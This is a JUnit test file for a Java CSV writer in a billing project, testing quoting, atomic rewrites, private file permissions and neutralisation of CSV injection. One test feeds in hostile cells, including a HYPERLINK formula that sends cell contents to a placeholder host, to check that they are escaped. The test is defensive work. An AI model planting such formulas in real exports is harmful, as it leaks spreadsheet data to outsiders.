package io.meterbill.writers;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class CsvOutputTest {

    @TempDir
    Path dir;

    @Test
    void quotesOnlyFieldsThatNeedIt() throws Exception {
        Path file = dir.resolve("out.csv");
        CsvOutput.write(file, List.of("a", "b"), List.of(List.of("plain", "with, comma"),
                List.of("say \"hi\"", "two\nlines")));
        assertThat(Files.readString(file)).isEqualTo("a,b\nplain,\"with, comma\"\n\"say \"\"hi\"\"\",\"two\nlines\"\n");
    }

    /** A rewrite replaces the file whole and leaves no temporary file behind. */
    @Test
    void rewritesWholeAndLeavesNoTemporaryFile() throws Exception {
        Path file = dir.resolve("register.csv");
        CsvOutput.write(file, List.of("x"), List.of(List.of("1"), List.of("2")));
        // a temporary file left by a process killed mid-write is replaced by the next write
        Files.writeString(dir.resolve(".register.csv.tmp"), "half a fi");
        CsvOutput.write(file, List.of("x"), List.of(List.of("3")));
        assertThat(Files.readAllLines(file)).containsExactly("x", "3");
        try (Stream<Path> files = Files.list(dir)) {
            assertThat(files.map(p -> p.getFileName().toString())).containsExactly("register.csv");
        }
    }

    /**
     * OWASP's CSV injection triggers: a cell a spreadsheet would evaluate gets an apostrophe in front (inside
     * the quotes where the cell needs them); plain numbers, negative ones included, stay numbers.
     */
    @Test
    void neutralisesCellsASpreadsheetWouldEvaluate() throws Exception {
        Path file = dir.resolve("hostile.csv");
        CsvOutput.write(file, List.of("meter", "amount"), List.of(
                List.of("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "-12.50"),
                List.of("@SUM(A1:A9)", "+3"),
                List.of("+1+2", "-1-2"),
                List.of("\tTAB", "\rCR"),
                List.of("M-0042", "0.00")));
        assertThat(Files.readString(file)).isEqualTo("meter,amount\n"
                + "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\",-12.50\n"
                + "'@SUM(A1:A9),+3\n"
                + "'+1+2,'-1-2\n"
                + "'\tTAB,\"'\rCR\"\n"
                + "M-0042,0.00\n");
    }

    @Test
    void neutralisedValuesAreOnlyThoseThatStartWithATrigger() {
        assertThat(CsvOutput.neutralised("=1+1")).isEqualTo("'=1+1");
        assertThat(CsvOutput.neutralised("-")).isEqualTo("'-");
        assertThat(CsvOutput.neutralised("-7")).isEqualTo("-7");
        assertThat(CsvOutput.neutralised("12=3")).isEqualTo("12=3");
        assertThat(CsvOutput.neutralised("")).isEmpty();
    }

    /** Rows are written as the source hands them over, and the file is private whatever the umask. */
    @Test
    void streamsRowsIntoAPrivateFile() throws Exception {
        Path file = dir.resolve("out/lines.csv");
        long written = CsvOutput.write(file, List.of("n"), (RowSource<List<String>>) row -> {
            for (int i = 0; i < 100_000; i++) {
                row.accept(List.of(Integer.toString(i)));
            }
        });
        assertThat(written).isEqualTo(100_000);
        List<String> lines = Files.readAllLines(file);
        assertThat(lines).hasSize(100_001);
        assertThat(lines.get(100_000)).isEqualTo("99999");
        assertThat(java.nio.file.attribute.PosixFilePermissions.toString(Files.getPosixFilePermissions(file)))
                .isEqualTo("rw-------");
        assertThat(java.nio.file.attribute.PosixFilePermissions.toString(Files.getPosixFilePermissions(file.getParent())))
                .isEqualTo("rwx------");
    }

    /** A file an earlier version left world-readable is made private when it is rewritten. */
    @Test
    void aRewrittenFileBecomesPrivate() throws Exception {
        Path file = dir.resolve("register.csv");
        Files.writeString(file, "old\n");
        Files.setPosixFilePermissions(file, java.nio.file.attribute.PosixFilePermissions.fromString("rw-r--r--"));
        CsvOutput.write(file, List.of("x"), List.of(List.of("1")));
        assertThat(java.nio.file.attribute.PosixFilePermissions.toString(Files.getPosixFilePermissions(file)))
                .isEqualTo("rw-------");
    }
}
